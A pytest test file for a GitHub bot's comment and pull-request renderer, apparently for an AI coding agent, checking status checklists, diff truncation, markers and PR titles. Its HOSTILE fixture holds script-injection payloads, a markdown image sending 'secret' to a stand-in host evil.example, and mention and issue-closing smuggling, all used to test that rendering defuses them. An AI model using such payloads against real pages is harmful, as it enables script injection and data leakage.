"""What Nimbus posts on GitHub: status, plan, diff and result comments, replies, and PR text."""

from __future__ import annotations

import dataclasses
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.github.render import (
    COMMENT_LIMIT,
    PERMISSION_MARKER,
    already_active_reply,
    diff_comment,
    diff_stats,
    marker,
    marker_of,
    permission_reply,
    plan_comment,
    pr_body,
    pr_title,
    result_comment,
    status_comment,
)
from bot.models import Task
from phases.machine import Gate, Outcome, Phase

ID = "task-0123456789abcdef"
PLAN = [
    {"title": "Add a token bucket", "files": ["api/limits.py"], "detail": "100 requests a minute."},
    {"title": "Use it in /api/users", "files": ["api/routes/users.py", "tests/test_users.py"]},
]
PASSED = {
    "passed": True,
    "summary": "12 passed",
    "command": "pytest -q",
    "new_failures": [],
    "preexisting_failures": ["tests/test_old.py::test_flaky"],
    "fix_attempts": 0,
}
FAILING = {
    "passed": False,
    "summary": "1 failed, 11 passed",
    "command": "pytest -q",
    "new_failures": ["tests/test_users.py::test_limit"],
    "preexisting_failures": [],
    "fix_attempts": 3,
}
REVIEW = {
    "summary": "One real problem.",
    "comments": [
        {
            "path": "api/limits.py",
            "line": 12,
            "body": "The bucket never refills.",
            "blocking": True,
        },
        {"path": "api/limits.py", "line": None, "body": "Nit: a docstring.", "blocking": False},
    ],
    "blocking": True,
}
HOSTILE = (
    "@octocat please <script>alert(1)</script> <img src=x onerror=alert(1)>"
    " ![x](https://evil.example/?q=secret) &#64;admin <!-- hidden @admin --> Fixes #7"
)


def prose(body: str) -> str:
    """What GitHub renders as markdown: the body without its code blocks and code spans."""
    body = re.sub(r"(?ms)^ *(`{3,})[^\n]*\n.*?^ *\1\n?", "", body)
    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", body)


def task(**fields) -> Task:
    base = Task(
        id=ID,
        workspace_id="ws-gh-1",
        repo_id="repo-1",
        description="Add rate limiting to /api/users\n\n100 requests a minute per key.",
        phase=Phase.QUEUED,
        created_us=0,
        updated_us=0,
    )
    return dataclasses.replace(base, **fields)


def diff_of(path: str, added: list[str], removed: list[str] = ()) -> str:
    lines = [f"-{line}" for line in removed] + [f"+{line}" for line in added]
    return (
        f"diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n"
        f"@@ -1,{len(removed)} +1,{len(added)} @@\n" + "\n".join(lines) + "\n"
    )


def checklist(body: str) -> list[str]:
    return [line[2:] for line in body.split("\n") if line.startswith("- ")]


AT_PLAN = dict(phase=Phase.AWAITING_APPROVAL, approval=Gate.PLAN, plan=PLAN)
AT_DIFF = dict(
    phase=Phase.AWAITING_APPROVAL,
    approval=Gate.DIFF,
    plan=PLAN,
    has_diff=True,
    verification=PASSED,
    review=REVIEW,
)
STATES = {
    "queued": (dict(), "queued", "`/nimbus cancel`"),
    "cloning": (dict(phase=Phase.CLONING), "working: cloning", "`/nimbus cancel`"),
    "plan gate": (AT_PLAN, "waiting for plan approval", "`/nimbus revise <what to change>`"),
    "implementing": (dict(phase=Phase.IMPLEMENTING, plan=PLAN), "implementing", "cancel"),
    "diff gate": (AT_DIFF, "waiting for diff approval", "`/nimbus approve-diff`"),
    "publishing": (
        dict(AT_DIFF, phase=Phase.CLEANUP, approval=None, outcome=Outcome.COMPLETED),
        "opening the pull request",
        "on its way",
    ),
    "done": (
        dict(
            AT_DIFF,
            phase=Phase.DONE,
            approval=None,
            outcome=Outcome.COMPLETED,
            pr_url="https://github.com/o/r/pull/9",
        ),
        "done",
        "[https://github.com/o/r/pull/9](https://github.com/o/r/pull/9)",
    ),
    "failed": (
        dict(phase=Phase.FAILED, outcome=Outcome.FAILED, plan=PLAN, error="IMPLEMENTING: boom"),
        "failed",
        "`/nimbus retry`",
    ),
    "failing, cleaning up": (
        dict(phase=Phase.CLEANUP, outcome=Outcome.FAILED, error="CLONING: no such repo"),
        "failed (cleaning up)",
        "no such repo",
    ),
    "rejected": (
        dict(
            phase=Phase.FAILED,
            outcome=Outcome.CANCELLED,
            plan=PLAN,
            error="cancelled: the plan was rejected (github:octo)",
        ),
        "cancelled",
        "Nothing was pushed",
    ),
}


@pytest.mark.parametrize("name", STATES)
def test_the_status_comment_shows_the_state_and_the_next_step(name):
    fields, headline, next_step = STATES[name]
    body = status_comment(task(**fields))
    assert marker_of(body) == (ID, None)
    assert headline in body.split("\n")[1].lower()
    assert next_step in body
    assert f"`{ID}`" in body
    assert len(checklist(body)) >= 11


def test_the_checklist_shows_done_current_and_pending_phases():
    lines = checklist(status_comment(task(phase=Phase.IMPLEMENTING, plan=PLAN)))
    assert lines[:6] == [
        "✅ Queued",
        "✅ Cloning",
        "✅ Indexing and baseline tests",
        "✅ Planning",
        "✅ Plan approval",
        "🔄 **Implementing**",
    ]
    assert lines[6:] == [
        "⬜ Verifying",
        "⬜ Reviewing",
        "⬜ Diff approval",
        "⬜ Cleanup",
        "⬜ Done",
    ]


def test_fixing_is_listed_only_when_it_happened():
    assert not any("Fixing" in line for line in checklist(status_comment(task(**AT_DIFF))))
    now = checklist(status_comment(task(phase=Phase.FIXING, fix_attempts=2, verification=FAILING)))
    assert "🔄 **Fixing (round 2)**" in now
    again = checklist(status_comment(task(phase=Phase.VERIFYING, fix_attempts=1, has_diff=True)))
    assert "✅ Fixing (1 round)" in again and "🔄 **Verifying**" in again
    review = task(phase=Phase.FIXING, review_fixes=1, review=REVIEW, state={"fix_reason": "review"})
    lines = checklist(status_comment(review))
    assert "🔄 **Fixing (after the review)**" in lines and "✅ Reviewing" in lines


def test_a_failed_task_shows_where_it_stopped():
    lines = checklist(status_comment(task(**STATES["failed"][0])))
    assert "❌ Implementing" in lines and "⚪ Verifying" in lines
    assert lines[-2:] == ["✅ Cleanup", "❌ Failed"]


def test_a_rejected_plan_shows_the_gate_it_stopped_at():
    lines = checklist(status_comment(task(**STATES["rejected"][0])))
    assert (
        "🚫 Plan approval" in lines and "⚪ Implementing" in lines and lines[-1] == "🚫 Cancelled"
    )


def test_gates_passed_automatically_say_so():
    lines = checklist(status_comment(task(phase=Phase.VERIFYING, auto_approve=True, has_diff=True)))
    assert "✅ Plan approval (automatic)" in lines and "⬜ Diff approval (automatic)" in lines


def test_the_error_is_in_a_code_block_cut_to_a_readable_length():
    error = "VERIFYING: ```\n" + "x" * 10_000
    body = status_comment(task(phase=Phase.FAILED, outcome=Outcome.FAILED, error=error))
    assert "more characters" in body and len(body) < 3_000
    assert "\n````\nVERIFYING: ```\nxxx" in body


def test_a_failing_verification_is_visible_at_the_diff_gate():
    body = status_comment(task(**dict(AT_DIFF, verification=FAILING)))
    assert "**still failing** after 3 fix rounds" in body
    assert "`tests/test_users.py::test_limit`" in body


def test_done_without_a_pull_request_names_the_branch_and_links_the_comparison():
    done = task(phase=Phase.DONE, outcome=Outcome.COMPLETED, branch="nimbus/issue-3-rate")
    body = status_comment(done, compare_url="https://github.com/o/r/compare/main...nimbus/x")
    assert "`nimbus/issue-3-rate`" in body
    assert "(https://github.com/o/r/compare/main...nimbus/x)" in body


def test_an_unsafe_url_is_shown_as_code_not_linked():
    done = task(phase=Phase.DONE, outcome=Outcome.COMPLETED, pr_url="javascript:alert(1)")
    assert "](javascript" not in status_comment(done)


def test_the_plan_comment_numbers_steps_with_files_details_and_commands():
    body = plan_comment(task(**AT_PLAN))
    assert marker_of(body) == (ID, "plan")
    assert "1. **Add a token bucket**\n   Files: `api/limits.py`\n   100 requests a minute." in body
    assert (
        "2. **Use it in /api/users**\n   Files: `api/routes/users.py`, `tests/test_users.py`"
        in body
    )
    for command in ("`/nimbus approve`", "`/nimbus reject`", "`/nimbus revise <what to change>`"):
        assert command in body


def test_the_plan_comment_shows_the_feedback_of_a_revision():
    body = plan_comment(task(**AT_PLAN, feedback="Use Redis"))
    assert "Revised after this feedback: Use Redis" in body


def test_the_plan_comment_asks_nothing_once_the_gate_is_passed():
    assert "/nimbus approve" not in plan_comment(task(phase=Phase.IMPLEMENTING, plan=PLAN))


def test_an_unclosed_fence_in_a_plan_detail_is_closed():
    plan = [{"title": "a", "files": [], "detail": "````py\nx = 1"}, {"title": "b", "files": []}]
    body = plan_comment(task(**dict(AT_PLAN, plan=plan)))
    assert "   ````py\n   x = 1\n   ````\n2. **b**" in body


def test_a_huge_plan_is_cut_to_what_github_accepts():
    plan = [
        {"title": f"step {n}", "files": ["a.py"] * 30, "detail": "d" * 3_000} for n in range(500)
    ]
    body = plan_comment(task(**dict(AT_PLAN, plan=plan)))
    assert len(body) <= COMMENT_LIMIT
    assert "more, not shown here" in body and "`/nimbus approve`" in body


def test_diff_stats_count_files_and_lines_by_hunk():
    diff = diff_of("a.py", ["x", "-- looks like a header"], ["---", "y"]) + diff_of("b.py", ["z"])
    assert diff_stats(diff) == (2, 3, 2)
    assert diff_stats("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n") == (1, 1, 1)
    assert diff_stats("") == (0, 0, 0)


def test_the_diff_comment_summarises_and_folds_the_diff():
    diff = diff_of("api/limits.py", ["a", "b"], ["c"])
    body = diff_comment(task(**AT_DIFF), diff, compare_url=None)
    assert marker_of(body) == (ID, "diff")
    assert "**1 file changed**, +2 -1" in body
    assert "Tests: ✅ passed (12 passed)" in body
    assert (
        "<details><summary>Diff (1 file)</summary>\n\n```diff\n"
        + diff.rstrip()
        + "\n```\n\n</details>"
        in body
    )
    assert "`/nimbus approve-diff`" in body and "`/nimbus reject-diff`" in body


def test_the_diff_comment_shows_the_review_and_its_blocking_findings():
    body = diff_comment(task(**AT_DIFF), diff_of("a.py", ["x"]), compare_url=None)
    assert "One real problem." in body
    assert "- `api/limits.py:12`: The bucket never refills." in body
    assert "1 other comment, not blocking" in body


def test_the_diff_fence_is_longer_than_any_backtick_run_in_the_diff():
    diff = diff_of("README.md", ["```python", "`````", "~~~"])
    body = diff_comment(task(**AT_DIFF), diff, compare_url=None)
    assert "\n``````diff\n" in body and "\n``````\n" in body


def test_a_huge_diff_is_cut_before_a_file_with_a_note_and_the_compare_link():
    diff = "".join(diff_of(f"f{n}.py", [f"line {i}" for i in range(100)]) for n in range(200))
    url = "https://github.com/o/r/compare/main...nimbus/x"
    body = diff_comment(task(**AT_DIFF), diff, compare_url=url)
    assert len(body) <= COMMENT_LIMIT
    shown = body.split("```diff\n", 1)[1].split("\n```\n", 1)[0] + "\n"
    assert len(shown) <= 60_000 and diff.startswith(shown)
    assert diff[len(shown) :].startswith("diff --git ")
    assert f"of 200 files, {len(shown):,} of {len(diff):,} characters" in body
    assert f"[the full diff]({url})" in body
    assert "`/nimbus approve-diff`" in body


def test_one_huge_file_is_cut_at_a_line_and_points_to_the_api():
    diff = diff_of("big.txt", ["y" * 99] * 2_000)
    body = diff_comment(task(**AT_DIFF), diff, compare_url=None, limit=10_000)
    shown = body.split("```diff\n", 1)[1].split("\n```\n", 1)[0]
    assert len(shown) <= 10_000 and shown.endswith("y" * 99)
    assert f"`GET /tasks/{ID}/diff`" in body


def test_the_diff_comment_fits_even_with_a_huge_review():
    review = dict(REVIEW, summary="s" * 50_000)
    review["comments"] = [dict(REVIEW["comments"][0], body="b" * 900)] * 500
    diff = diff_of("a.py", ["x" * 100] * 1_000)
    body = diff_comment(task(**dict(AT_DIFF, review=review)), diff, compare_url=None)
    assert len(body) <= COMMENT_LIMIT and "`/nimbus reject-diff`" in body


def test_invisible_characters_in_a_diff_are_shown_to_the_reviewer():
    body = diff_comment(task(**AT_DIFF), diff_of("a.py", ["ok = 1 \u202e# x"]), compare_url=None)
    assert "⟨U+202E⟩" in body and "\u202e" not in body
    assert "bidirectional control characters" in body


def test_an_empty_diff_says_so():
    assert "The change is empty" in diff_comment(task(**AT_DIFF), "", compare_url=None)


@pytest.mark.parametrize("kind", [None, "plan", "diff", "result", "pr", "active"])
def test_markers_round_trip(kind):
    assert marker_of(marker(ID, kind) + "\nbody") == (ID, kind)


def test_only_a_marker_at_the_start_counts():
    assert marker_of("hello") is None
    assert marker_of(f"quoting you:\n{marker(ID)}") is None
    assert marker_of("<!-- nimbus:task= -->") is None


@pytest.mark.parametrize(
    ("task_id", "kind"), [("task-1 -->", None), ("task-1", "Plan"), ("", None)]
)
def test_a_marker_refuses_what_would_break_it(task_id, kind):
    with pytest.raises(ValueError):
        marker(task_id, kind)


def rendered_with_hostile_text() -> dict[str, str]:
    hostile = task(
        **dict(
            AT_DIFF,
            description=HOSTILE,
            feedback=HOSTILE,
            plan=[{"title": HOSTILE, "files": [HOSTILE], "detail": HOSTILE}],
            review={
                "summary": HOSTILE,
                "comments": [{"path": "a", "line": 1, "body": HOSTILE, "blocking": True}],
            },
            verification=dict(FAILING, summary=HOSTILE, new_failures=[HOSTILE]),
        )
    )
    at_plan = dataclasses.replace(hostile, approval=Gate.PLAN)
    cancelled = dataclasses.replace(hostile, phase=Phase.FAILED, outcome=Outcome.CANCELLED)
    return {
        "status": status_comment(hostile),
        "status, cancelled": status_comment(cancelled),
        "plan": plan_comment(at_plan),
        "diff": diff_comment(hostile, diff_of("a.py", ["x"]), compare_url=None),
        "pr body": pr_body(hostile, 3),
        "pr title": pr_title(hostile),
    }


HOSTILE_BODIES = rendered_with_hostile_text()


@pytest.mark.parametrize("name", HOSTILE_BODIES)
def test_hostile_text_creates_no_mention_html_image_or_closing_reference(name):
    body = prose(HOSTILE_BODIES[name])
    assert not re.search(r"@[A-Za-z0-9]", body)
    if name != "pr title":  # a title is plain text: GitHub shows `<` as it is
        assert not re.search(r"<(script|img)", body, re.IGNORECASE)
    assert "&#64;" not in body.replace("&amp;#64;", "")
    assert not re.search(r"(?<!\\)!\[", body)
    assert "hidden" not in body  # the HTML comment was dropped, not shown
    if name.startswith("pr"):  # a closing keyword acts only in a PR (and in commits)
        assert "Fixes #7" not in HOSTILE_BODIES[name]


def test_an_error_is_echoed_only_inside_a_code_block():
    body = result_comment(task(phase=Phase.FAILED, outcome=Outcome.FAILED, error=HOSTILE))
    fenced = re.search(r"\n```\n(.*)\n```\n", body, re.S)
    assert fenced and "<script>" in fenced.group(1)
    assert "<script>" not in body.replace(fenced.group(0), "")


@given(st.text(), st.text())
def test_any_description_or_plan_title_stays_inert(description, title):
    t = task(**dict(AT_PLAN, description=description, plan=[{"title": title, "files": []}]))
    for body in (status_comment(t), plan_comment(t)):
        body = prose(body)
        ours = re.sub(r"^<!-- nimbus:[^>]* -->|</?sub>", "", body)
        assert "<" not in ours.replace("<what to change>", "")
        assert not re.search(r"@[A-Za-z0-9]", body)


@given(st.text(alphabet="diff --git a/b\n+-@ 0123,`~<>\u202e"), st.integers(0, 80_000))
def test_any_diff_makes_a_comment_github_accepts(diff, limit):
    body = diff_comment(task(**AT_DIFF), diff, compare_url=None, limit=limit)
    assert marker_of(body) == (ID, "diff") and len(body) <= COMMENT_LIMIT


@given(st.lists(st.text(), max_size=5))
def test_any_plan_makes_a_comment_github_accepts(details):
    plan = [{"title": d, "files": [d], "detail": d * 1_000} for d in details]
    body = plan_comment(task(**dict(AT_PLAN, plan=plan)))
    assert len(body) <= COMMENT_LIMIT and body.endswith("for a new plan.")


@given(st.text())
def test_a_pr_title_is_one_line_of_at_most_72_characters(description):
    title = pr_title(task(description=description))
    assert title and "\n" not in title and len(title) <= 72


def test_the_pr_title_is_the_first_line_cut_at_a_word():
    assert pr_title(task()) == "Add rate limiting to /api/users"
    long = task(description="Add " + "very " * 30 + "long title")
    assert pr_title(long).endswith("very…") and len(pr_title(long)) <= 72
    assert pr_title(task(description="  \n ")) == f"Nimbus task {ID}"


def test_the_pr_body_closes_the_issue_and_reports_plan_verification_review_and_usage():
    done = task(**AT_DIFF, usage={"input_tokens": 12_345, "output_tokens": 678})
    body = pr_body(done, 42)
    assert marker_of(body) == (ID, "pr")
    assert "\nCloses #42\n" in body
    assert "100 requests a minute per key." in body
    assert "1. **Add a token bucket**" in body
    assert "Tests: ✅ passed (12 passed)" in body
    assert "not caused by it: `tests/test_old.py::test_flaky`" in body
    assert "One real problem." in body and "The bucket never refills." in body
    assert "12,345 input and 678 output tokens" in body
    assert "Closes" not in pr_body(done, None)


def test_the_pr_body_reports_failing_tests_and_missing_ones():
    failing = pr_body(task(**dict(AT_DIFF, verification=FAILING)), 1)
    assert "**still failing** after 3 fix rounds" in failing
    assert "New failures: `tests/test_users.py::test_limit`" in failing
    none = dict(PASSED, command=None, summary="no tests found", preexisting_failures=[])
    assert "no tests found: nothing was verified" in pr_body(task(verification=none), 1)


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        (dict(phase=Phase.DONE, outcome=Outcome.COMPLETED, pr_url="https://x.test/pull/1"), "done"),
        (dict(phase=Phase.FAILED, outcome=Outcome.FAILED, error="PLANNING: no model"), "failed"),
        (dict(phase=Phase.FAILED, outcome=Outcome.CANCELLED), "cancelled"),
    ],
)
def test_the_result_comment_announces_the_end(fields, expected):
    body = result_comment(task(**fields))
    assert marker_of(body) == (ID, "result") and expected in body


def test_there_is_no_result_before_the_end():
    with pytest.raises(ValueError):
        result_comment(task(phase=Phase.IMPLEMENTING))


def test_the_permission_reply_is_short_and_marked():
    body = permission_reply("octo-cat")
    assert body.startswith(PERMISSION_MARKER) and "@octo-cat" in body and "write access" in body
    assert "@" not in permission_reply("evil\n@admin")


def test_the_already_active_reply_names_the_task():
    url = "https://github.com/o/r/issues/3#issuecomment-1"
    body = already_active_reply(ID, status_url=url)
    assert marker_of(body) == (ID, "active")
    assert f"`{ID}`" in body and f"({url})" in body and "`/nimbus cancel`" in body
